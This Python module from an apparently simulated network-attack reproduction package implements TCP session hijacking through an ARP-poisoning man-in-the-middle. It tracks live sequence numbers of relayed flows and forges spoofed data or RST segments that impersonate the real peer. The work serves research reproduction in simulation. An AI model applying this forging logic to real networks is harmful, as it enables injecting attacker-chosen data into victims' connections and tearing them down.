"""TCP session hijacking on top of an ARP-poisoning MITM.

The paper's introduction motivates poisoning with exactly this: once in
the middle, the attacker holds live sequence/acknowledgement numbers
for every relayed connection and can speak *as* either endpoint.  Two
classic moves are implemented:

* ``inject(payload)`` — forge a data segment from the server to the
  client with the right seq/ack: the victim's application accepts
  attacker-chosen bytes as genuine server output (and the real stream
  desynchronizes, as in real hijacks);
* ``reset()`` — forge an RST and tear the connection down.

The injector needs no luck: as the MITM relay it *is* the channel, so
the numbers are simply read off the relayed segments.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional, Tuple

from repro.errors import AttackError, CodecError
from repro.net.addresses import Ipv4Address, MacAddress
from repro.packets.ethernet import EtherType, EthernetFrame
from repro.packets.ipv4 import IpProto, Ipv4Packet
from repro.packets.tcp import TcpFlags, TcpSegment
from repro.attacks.base import Attack
from repro.attacks.mitm import MitmAttack
from repro.stack.host import Host

__all__ = ["FlowState", "SessionHijacker"]


@dataclass
class FlowState:
    """Live sequence state of one observed direction of a flow."""

    src: Ipv4Address
    dst: Ipv4Address
    src_port: int
    dst_port: int
    next_seq: int  # what the src will send next
    last_ack: int  # what the src has acknowledged
    segments_seen: int = 0


class SessionHijacker(Attack):
    """Observe relayed TCP flows through a MITM and forge into them."""

    kind = "session-hijack"

    def __init__(self, mitm: MitmAttack) -> None:
        super().__init__(mitm.attacker)
        self.mitm = mitm
        #: (src, dst, sport, dport) -> FlowState for each direction seen.
        self.flows: Dict[Tuple[Ipv4Address, Ipv4Address, int, int], FlowState] = {}
        self.injections = 0
        self.resets = 0
        self._untap = None

    # ------------------------------------------------------------------
    def _start(self) -> None:
        self._untap = self.attacker.forward_taps.add(self._observe)

    def _stop(self) -> None:
        if self._untap is not None:
            self._untap()
            self._untap = None

    def _observe(self, packet: Ipv4Packet) -> None:
        if packet.proto != IpProto.TCP:
            return None
        try:
            segment = TcpSegment.decode(packet.payload)
        except CodecError:
            return None
        key = (packet.src, packet.dst, segment.src_port, segment.dst_port)
        consumed = len(segment.payload)
        if segment.flags & TcpFlags.SYN or segment.flags & TcpFlags.FIN:
            consumed += 1
        state = self.flows.get(key)
        if state is None:
            state = FlowState(
                src=packet.src,
                dst=packet.dst,
                src_port=segment.src_port,
                dst_port=segment.dst_port,
                next_seq=(segment.seq + consumed) & 0xFFFFFFFF,
                last_ack=segment.ack,
            )
            self.flows[key] = state
        else:
            state.next_seq = (segment.seq + consumed) & 0xFFFFFFFF
            state.last_ack = segment.ack
        state.segments_seen += 1
        return None

    # ------------------------------------------------------------------
    def flow_toward(
        self, victim_ip: Ipv4Address, victim_port: Optional[int] = None
    ) -> Optional[FlowState]:
        """The observed flow whose *destination* is the victim."""
        candidates = [
            state
            for state in self.flows.values()
            if state.dst == victim_ip
            and (victim_port is None or state.dst_port == victim_port)
        ]
        if not candidates:
            return None
        return max(candidates, key=lambda s: s.segments_seen)

    def _victim_mac(self, victim_ip: Ipv4Address) -> MacAddress:
        mac = self.attacker.arp_cache.get(victim_ip, self.attacker.sim.now)
        if mac is None:
            raise AttackError(f"no MAC known for {victim_ip}; relay first")
        return mac

    def inject(self, victim_ip: Ipv4Address, payload: bytes) -> bool:
        """Forge a data segment into the victim's most active flow.

        Returns False when no flow toward the victim has been observed.
        The forged segment impersonates the true peer at L3 *and* uses
        the exact expected sequence number, so the victim's stack
        delivers the payload to the application.
        """
        state = self.flow_toward(victim_ip)
        if state is None:
            return False
        forged = TcpSegment(
            src_port=state.src_port,
            dst_port=state.dst_port,
            seq=state.next_seq,
            ack=state.last_ack,
            flags=TcpFlags.ACK | TcpFlags.PSH,
            payload=payload,
        )
        self._transmit(state, forged, victim_ip)
        # The victim will advance rcv_nxt past our bytes: the genuine
        # stream is now desynchronized (the real hijack's side effect).
        state.next_seq = (state.next_seq + len(payload)) & 0xFFFFFFFF
        self.injections += 1
        return True

    def reset(self, victim_ip: Ipv4Address) -> bool:
        """Forge an RST that tears the victim's connection down."""
        state = self.flow_toward(victim_ip)
        if state is None:
            return False
        forged = TcpSegment(
            src_port=state.src_port,
            dst_port=state.dst_port,
            seq=state.next_seq,
            ack=state.last_ack,
            flags=TcpFlags.RST,
        )
        self._transmit(state, forged, victim_ip)
        self.resets += 1
        return True

    def _transmit(
        self, state: FlowState, segment: TcpSegment, victim_ip: Ipv4Address
    ) -> None:
        packet = Ipv4Packet(
            src=state.src,  # impersonate the true peer
            dst=victim_ip,
            proto=IpProto.TCP,
            payload=segment.encode(),
        )
        frame = EthernetFrame(
            dst=self._victim_mac(victim_ip),
            src=self.attacker.mac,
            ethertype=EtherType.IPV4,
            payload=packet.encode(),
        )
        self.frames_sent += 1
        self.attacker.transmit_frame(frame, origin=f"attack:{self.kind}")
